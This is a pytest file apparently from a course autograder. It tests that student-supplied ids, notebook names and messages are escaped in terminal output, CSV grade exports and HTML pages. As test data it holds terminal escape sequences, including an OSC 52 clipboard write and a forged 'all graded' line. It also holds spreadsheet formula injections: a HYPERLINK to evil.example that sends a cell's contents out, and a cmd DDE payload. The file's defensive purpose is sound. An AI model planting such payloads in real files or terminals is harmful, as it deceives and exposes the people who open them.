"""Text from submissions reaches the instructor escaped: on the terminal, in CSV, in HTML.

Student ids (folder names), notebook names and messages are the student's text. Every
place the grader shows them goes through ``course.grading.untrusted``; these tests hand
each of those places a text full of escape sequences and look for a raw control character
in what comes out.
"""

import csv
import os
import re
from datetime import datetime
from types import SimpleNamespace

import pytest

from course import cli
from course.grading import autograde, pages, selfstudy
from course.grading.export import CanvasExportPlugin, csv_safe
from course.grading.notebooks import UngradableNotebook
from course.grading.results import (
    AssignmentResult,
    CellResult,
    CheckResult,
    ExerciseCheck,
    NotebookResult,
)
from course.grading.text import (
    format_check,
    format_class_table,
    format_result,
    format_summary,
)
from course.grading.untrusted import csv_field, printable
from course.terminal import colour

# a window title, a clipboard write (OSC 52), a wiped line and a fake green verdict
ESCAPES = "\x1b]0;owned\x07\x1b]52;c;ZWNobyBvd25lZA==\x07\x1b[2K\r\x1b[32mall graded\x1b[0m"
ESCAPED = r"\x1b]0;owned\x07\x1b]52;c;ZWNobyBvd25lZA==\x07\x1b[2K\r\x1b[32mall graded\x1b[0m"
EVIL_ID = "mallory" + ESCAPES


def no_control_characters(text):
    """Whether ``text``'s lines hold nothing but printable characters (and tabs)."""
    return all(line.replace("\t", "").isprintable() for line in text.split("\n"))


def test_printable_writes_what_a_terminal_acts_on_as_escapes():
    assert printable(ESCAPES) == ESCAPED
    assert printable("abc\u202edcba") == r"abc\u202edcba"  # a bidirectional override
    assert printable("al\u200bice") == r"al\u200bice"  # a zero-width space: two ids alike
    assert printable("a\x85b\u2028c") == r"a\x85b\u2028c"  # line breaks to some programs
    assert printable("tag\U000e0041") == r"tag\U000e0041"  # an invisible tag character
    plain = "café, naïve 数字 - 3/4 (ok) ✓"
    assert printable(plain) == plain
    assert printable(42) == "42"


def test_printable_leaves_no_control_character_of_any_kind():
    every = "".join(map(chr, [*range(0x3000), *range(0xFE00, 0x10000), 0xE0001, 0x10FFFF]))
    assert printable(every).isprintable()
    assert no_control_characters(printable(every, lines=True))


def test_printable_keeps_line_breaks_and_tabs_of_a_message_only_when_asked():
    message = "first\tline\r\nsecond\rline\n"
    assert printable(message) == r"first\tline\r\nsecond\rline\n"
    assert printable(message, lines=True) == "first\tline\nsecond\\rline\n"


@pytest.mark.parametrize("start", ["=", "+", "-", "@"])
def test_a_csv_field_is_never_a_formula(start):
    assert csv_field(f"{start}1+1") == f"'{start}1+1"


def test_a_csv_field_is_one_field_on_one_line():
    evil = '=HYPERLINK("evil.example?"&A1,"paid")\n,,,'
    field = csv_field(evil)
    assert field == '"\'=HYPERLINK(""evil.example?""&A1,""paid"")\\n,,,"'
    assert list(csv.reader([f"{field},next"])) == [[field[1:-1].replace('""', '"'), "next"]]
    assert csv_field("alice") == "alice" and csv_field(ESCAPES) == ESCAPED


def fake_gradebook(students):
    """What nbgrader's CSV exporter reads of a gradebook: ``{id: score}`` for one assignment."""
    submissions = {
        student: SimpleNamespace(
            timestamp=datetime(2026, 12, 1, 9, 30), score=score, late_submission_penalty=0.0
        )
        for student, score in students.items()
    }
    return SimpleNamespace(
        assignments=[SimpleNamespace(name="week1", duedate=None, max_score=12.0)],
        students=[
            SimpleNamespace(
                id=s,
                last_name=None,
                first_name="Ann",
                email="=cmd|' /C calc'!A0",
                lms_user_id="+1" if s.startswith("@") else None,
            )
            for s in students
        ],
        find_submission=lambda assignment, student: submissions[student],
    )


def export(gradebook, path):
    from nbgrader.plugins import CsvExportPlugin

    CsvExportPlugin(to=str(path), assignment=["week1"]).export(gradebook)
    return path.read_text()


def test_grades_csv_is_nbgraders_export_with_the_students_text_made_safe(tmp_path):
    honest = {"alice": 12.0, "bob": 3.0}
    safe = export(csv_safe(fake_gradebook(honest)), tmp_path / "safe.csv")
    raw = export(fake_gradebook(honest), tmp_path / "raw.csv")
    assert safe.replace("'=cmd", "=cmd") == raw  # an honest class: nbgrader's own file

    evil = {EVIL_ID: 5.0, '=HYPERLINK("x",1),': 7.0, "@SUM(1+1)": 9.0}
    text = export(csv_safe(fake_gradebook(evil)), tmp_path / "evil.csv")
    rows = list(csv.reader(text.splitlines()))
    assert {len(row) for row in rows} == {11}  # no column or row added
    by_id = {row[3]: row for row in rows[1:]}
    assert by_id["mallory" + ESCAPED][9] == "5.0"  # looked up with the real id
    assert by_id['\'=HYPERLINK("x",1),'][9] == "7.0"
    assert by_id["'@SUM(1+1)"][9] == "9.0"
    assert {row[6] for row in rows[1:]} == {"'=cmd|' /C calc'!A0"}
    assert all(no_control_characters(cell) for row in rows for cell in row)


def test_the_canvas_file_makes_the_students_text_safe_too(tmp_path):
    evil = {EVIL_ID: 5.0, '=HYPERLINK("x",1),': 7.0, "@SUM(1+1)": 9.0}
    path = tmp_path / "canvas.csv"
    CanvasExportPlugin(to=str(path)).export(fake_gradebook(evil))
    rows = list(csv.reader(path.read_text(encoding="utf-8").splitlines()))
    assert {len(row) for row in rows} == {6}  # no column or row added
    by_id = {row[3]: row for row in rows[2:]}
    assert by_id["mallory" + ESCAPED][5] == "5"  # looked up with the real id
    assert by_id['\'=HYPERLINK("x",1),'][5] == "7"
    assert by_id["'@SUM(1+1)"][1:] == ["'+1", "", "'@SUM(1+1)", "", "9"]
    assert {row[0] for row in rows[2:]} == {"Ann"}
    assert all(no_control_characters(cell) for row in rows for cell in row)


def evil_result():
    cells = [
        CellResult("test_f", 0, 1, "error", f"ValueError: {ESCAPES}\nsecond {ESCAPES}"),
        CellResult("test_g", 1, 1, "passed"),
    ]
    return NotebookResult(
        "toy", "toy", cells=cells, exercises=["f" + ESCAPES, "g"], tested={"test_f": "f" + ESCAPES}
    )


@pytest.mark.parametrize("coloured", [False, True])
def test_tables_show_a_students_text_escaped(coloured):
    own = [colour("", name)[:-4] for name in ("green", "red", "yellow", "bold")] + ["\x1b[0m"]

    def without_own_colours(text):
        for code in own:
            text = text.replace(code, "")
        return text

    table = format_result(evil_result(), colour=coloured)
    assert no_control_characters(without_own_colours(table))
    assert f"-> ValueError: {ESCAPED}" in without_own_colours(table)
    assert f"revisit: f{ESCAPED} (0/1)" in table
    check = CheckResult("toy", "toy", [ExerciseCheck("f" + ESCAPES, "failed", 1, ESCAPES)])
    assert no_control_characters(without_own_colours(format_check(check, colour=coloured)))
    assert ESCAPED in format_check(check)


def test_class_table_and_summary_show_ids_and_error_rows_escaped():
    graded = {EVIL_ID: AssignmentResult("toy", [evil_result()])}
    table = format_class_table(graded)
    assert no_control_characters(table) and ("mallory" + ESCAPED) in table
    summary = autograde.Summary(
        assignment="toy",
        results=graded,
        errors={EVIL_ID: f"the student execution server stopped (exit 1): {ESCAPES}\nmore"},
        missing={EVIL_ID: ["toy" + ESCAPES]},
        regraded={"source of toy changed since these grades": [EVIL_ID]},
    )
    text = format_summary(summary)
    assert no_control_characters(text)
    assert f"  not graded: mallory{ESCAPED}: the student execution server" in text
    assert f"{ESCAPED}\\nmore" in text  # an error row is one line
    assert f"  not handed in: mallory{ESCAPED}: toy{ESCAPED}.ipynb (0 points)" in text
    assert "  graded again, source of toy changed since these grades: 1 submission" in text


def test_html_pages_escape_control_characters_and_keep_html_escaped():
    html = pages.macros("macros.html")
    shown = html.code(f"<b>{ESCAPES}</b>")
    assert "\x1b" not in shown and "\x07" not in shown and "<b>" not in shown
    # terminal colours are dropped, as before; what is left is written as escapes
    assert shown == (
        r"<pre><code>&lt;b&gt;\x1b]0;owned\x07\x1b]52;c;ZWNobyBvd25lZA==\x07\rall graded&lt;/b&gt;"
        "</code></pre>\n"
    )
    stream = [{"output_type": "stream", "name": "stdout", "text": ESCAPES}]
    assert no_control_characters(html.outputs(pages.outputs(stream)))


def test_the_cli_prints_error_lines_escaped(tmp_path, capsys):
    missing = tmp_path / f"work{ESCAPES}.ipynb"
    assert cli.main(["grade", str(missing)]) == cli.EXIT_UNGRADABLE
    out = capsys.readouterr()
    assert out.out == "" and no_control_characters(out.err)
    assert f"work{ESCAPED}.ipynb: no such file; check the path" in out.err


def test_the_progress_lines_name_students_escaped(capsys):
    bar = cli._ProgressBar("grade")
    bar("start", None, 2)
    bar("regrading", "toy was released again since these grades", 2)
    bar("error", EVIL_ID)
    bar.close()
    err = capsys.readouterr().err
    assert no_control_characters(err)
    assert "toy was released again since these grades: regrading 2 submissions" in err
    assert f"could not grade mallory{ESCAPED} (see the summary)" in err


@pytest.mark.parametrize(
    "make, says",
    [
        (lambda path, target: path.symlink_to(target), "is a symbolic link: grade the file"),
        (lambda path, target: os.mkfifo(path), "is a named pipe (FIFO): grade a notebook"),
        (lambda path, target: path.mkdir(), "is a folder: grade a notebook file"),
    ],
)
def test_course_grade_reads_neither_a_link_nor_a_special_file(tmp_path, capsys, make, says):
    target = tmp_path / "solutions.ipynb"  # e.g. the instructor's notebook in source/
    target.write_text("{}")
    path = tmp_path / "mine.ipynb"
    make(path, target)
    with pytest.raises(UngradableNotebook, match=re.escape(says)):
        selfstudy.grade_notebook(path)  # a named pipe would block here if it were opened
    assert cli.main(["grade", str(path)]) == cli.EXIT_UNGRADABLE
    assert says in capsys.readouterr().err
